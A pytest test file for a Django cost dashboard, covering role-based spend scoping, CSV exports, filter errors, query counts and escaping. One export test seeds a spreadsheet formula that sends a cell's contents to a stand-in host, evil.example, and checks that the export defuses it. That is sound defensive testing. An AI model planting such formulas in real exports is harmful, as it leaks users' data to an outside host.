"""The spend dashboard: figures from rollups, CSV exports, scoping per role, fixed query counts."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from costs.models import SpendRollup
from tests.factories import DomainFactory, UserFactory, UserProfileFactory, grant

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()


def spend(
    domain: Any, amount: str, days_ago: int, level: str = "domain", key: str | None = None, profile: Any = None
) -> None:
    day = TODAY - timedelta(days=days_ago)
    SpendRollup.objects.create(
        payer=domain.account,
        period="day",
        start=day,
        level=level,
        domain_arn=domain.arn,
        key_arn=key or domain.arn,
        domain=domain,
        user_profile=profile,
        amount=Decimal(amount),
    )
    SpendRollup.objects.update_or_create(
        payer=domain.account,
        period="month",
        start=day.replace(day=1),
        level=level,
        domain_arn=domain.arn,
        key_arn=key or domain.arn,
        defaults={"amount": Decimal(amount), "domain": domain, "user_profile": profile},
    )


@pytest.fixture
def world() -> dict[str, Any]:
    risk, research = DomainFactory(name="risk"), DomainFactory(name="research")
    finance = UserFactory(username="finance")
    grant(finance, "finance")
    lead = UserFactory(username="lead")
    grant(lead, "team_lead", research)
    scientist = UserFactory(username="maria")
    grant(scientist, "data_scientist", research)
    own = UserProfileFactory(domain=research, owner=scientist, name="maria-garcia")
    spend(risk, "100.50", 1)
    spend(research, "40.25", 1)
    spend(research, "12.00", 1, level="profile", key=own.arn, profile=own)
    return {"risk": risk, "research": research, "finance": finance, "lead": lead, "scientist": scientist}


def get(user: Any, **params: str) -> Any:
    client = Client()
    client.force_login(user)
    return client.get(reverse("costs:dashboard"), params)


def test_finance_sees_every_domain_with_totals_and_the_chart_data(world: dict[str, Any]) -> None:
    response = get(world["finance"])
    body = response.content.decode()
    assert response.status_code == 200
    assert "risk" in body and "research" in body and "140.75" in body  # the per-domain total
    series = response.context["series"]
    assert {d["label"] for d in series["datasets"]} == {"risk", "research"}


def test_a_team_lead_sees_only_their_domains_spend(world: dict[str, Any]) -> None:
    response = get(world["lead"])
    assert [row["name"] for row in response.context["domains"]] == ["research"]
    assert "100.50" not in response.content.decode()


def test_a_data_scientist_sees_only_their_own_spend(world: dict[str, Any]) -> None:
    response = get(world["scientist"])
    assert [(row["name"], row["amount"]) for row in response.context["domains"]] == [("research", Decimal("12.00"))]
    assert [row["name"] for row in response.context["profiles"]] == ["maria-garcia"]


def test_a_data_scientists_totals_are_their_own_profiles_spend(world: dict[str, Any]) -> None:
    """The page once said "No cost data yet" and $0.00 while listing the scientist's own profile's spend."""
    response = get(world["scientist"])
    body = response.content.decode()
    assert "No cost data yet" not in body
    assert response.context["month"]["data_through"] == TODAY - timedelta(days=1)
    if (TODAY - timedelta(days=1)).month == TODAY.month:
        assert response.context["month"]["month_to_date"] == Decimal("12.00")
    assert [d["label"] for d in response.context["series"]["datasets"]] == ["research"]
    assert "40.25" not in body  # the rest of the domain's spend stays hidden
    assert response.context["domains"][0]["budget_hidden"] and "not shown (your own spend)" in body
    assert response.context["profiles_other"] is None


def test_spend_tables_link_their_rows_and_say_what_the_top_rows_leave(world: dict[str, Any]) -> None:
    response = get(world["finance"])
    research = world["research"]
    body = response.content.decode()
    assert reverse("domains:domain-detail", args=[research.pk]) in body
    profile = research.user_profiles.get()
    assert reverse("profiles:profile-detail", args=[profile.pk]) in body
    other = response.context["profiles_other"]
    assert other["amount"] == Decimal("128.75")  # 140.75 in all domains, 12.00 of it the one profile listed
    assert "Other: other profiles" in body


def test_an_outsider_sees_no_spend(world: dict[str, Any]) -> None:
    outsider = UserFactory(username="outsider")
    grant(outsider, "domain_approver", DomainFactory(name="elsewhere"))
    response = get(outsider)
    assert response.context["domains"] == [] and response.context["series"]["datasets"] == []


def test_the_domain_filter_and_the_csv_export(world: dict[str, Any]) -> None:
    response = get(world["finance"], domain=world["risk"].arn, export="domains")
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:4] == ["domain", "name", "arn", "amount_usd"]
    assert [r[1] for r in rows[1:-1]] == ["risk"] and rows[-1][0] == "total" and rows[-1][3] == "100.50"


def test_bad_filters_say_what_is_wrong(world: dict[str, Any]) -> None:
    body = get(world["finance"], account="123", start="2026-02-01", end="2026-01-01").content.decode()
    assert "Select a valid choice. 123 is not one of the available choices" in body
    assert "The end is before the start" in body


def test_the_account_filter_offers_the_accounts_of_the_domains_in_view(world: dict[str, Any]) -> None:
    lead = get(world["lead"]).context["form"]
    assert [value for value, _ in lead.fields["account"].choices if value] == [world["research"].account.account_id]
    scientist = get(world["scientist"], domain=world["research"].arn)
    assert [row["amount"] for row in scientist.context["domains"]] == [Decimal("12.00")]
    refused = get(world["lead"], account=world["risk"].account.account_id)  # finance's, not the lead's
    assert refused.context["form"].errors["account"] and "100.50" not in refused.content.decode()


def test_the_dashboard_keeps_a_fixed_number_of_queries(world: dict[str, Any]) -> None:
    with CaptureQueriesContext(connection) as small:
        get(world["finance"])
    for _ in range(15):
        domain = DomainFactory()
        for days_ago in range(1, 20):
            spend(domain, "1.00", days_ago)
    with CaptureQueriesContext(connection) as large:
        get(world["finance"])
    assert len(large) == len(small)


def test_an_inactive_cost_allocation_tag_shows_a_banner_with_the_fix(world: dict[str, Any]) -> None:
    from costs.models import CostTagStatus

    CostTagStatus.objects.create(payer=world["risk"].account, tag_key="sagemaker:domain-arn", status="Inactive")
    body = get(world["finance"]).content.decode()
    assert "is inactive as a cost allocation tag" in body and "choose <em>Activate</em>" in body


def test_totals_over_ragged_windows_equal_the_daily_sums(world: dict[str, Any]) -> None:
    from costs.reports import Window, totals

    risk = world["risk"]
    SpendRollup.objects.all().delete()
    for days_ago in range(1, 120):
        spend(risk, "1.00", days_ago)  # month rollups hold one day each here, the point is which rows are read
    month_rows = SpendRollup.objects.filter(period="month")
    for rollup in month_rows:  # make each month rollup the true sum of its days
        days = SpendRollup.objects.filter(period="day", start__year=rollup.start.year, start__month=rollup.start.month)
        rollup.amount = sum(days.values_list("amount", flat=True), Decimal(0))
        rollup.save()
    for start_ago, end_ago in ((100, 10), (95, 40), (30, 1), (119, 1)):
        window = Window(TODAY - timedelta(days=start_ago), TODAY - timedelta(days=end_ago))
        expected = sum(
            SpendRollup.objects.filter(period="day", start__gte=window.start, start__lte=window.end).values_list(
                "amount", flat=True
            ),
            Decimal(0),
        )
        assert totals(SpendRollup.objects.all(), window, "domain")[0]["amount"] == expected


@pytest.mark.parametrize(("export", "level"), [("domains", "domain"), ("profiles", "profile"), ("spaces", "space")])
def test_every_csv_export_writes_a_tag_value_that_looks_like_a_formula_as_text(
    world: dict[str, Any], export: str, level: str
) -> None:
    # Spend tagged with an ARN the inventory does not know keeps the tag's value, whatever it is.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    day = TODAY - timedelta(days=1)
    for period, start in (("day", day), ("month", day.replace(day=1))):
        SpendRollup.objects.create(
            payer=world["research"].account,
            period=period,
            start=start,
            level=level,
            domain_arn=formula if level == "domain" else world["research"].arn,
            key_arn=formula,
            amount=Decimal("-3.25"),
        )
    response = get(world["finance"], export=export)
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    row = next(r for r in rows if formula in r[2])
    assert row[2] == "'" + formula
    assert row[3] == "-3.25"  # a negative amount is a number, written as it is


def test_the_filter_selects_escape_their_labels_and_keep_the_choice() -> None:
    from costs.forms import SpendFilterForm

    form = SpendFilterForm(
        {"domain": "arn:2"}, domains=[("arn:1", "a & b"), ("arn:2", "<x>")], accounts=["1"], today=date(2026, 12, 4)
    )
    html = str(form["domain"])
    assert html.startswith('<select id="id_domain" name="domain">')
    assert '<option value="arn:1">a &amp; b</option>' in html
    assert '<option value="arn:2" selected>&lt;x&gt;</option>' in html and html.count("selected") == 1
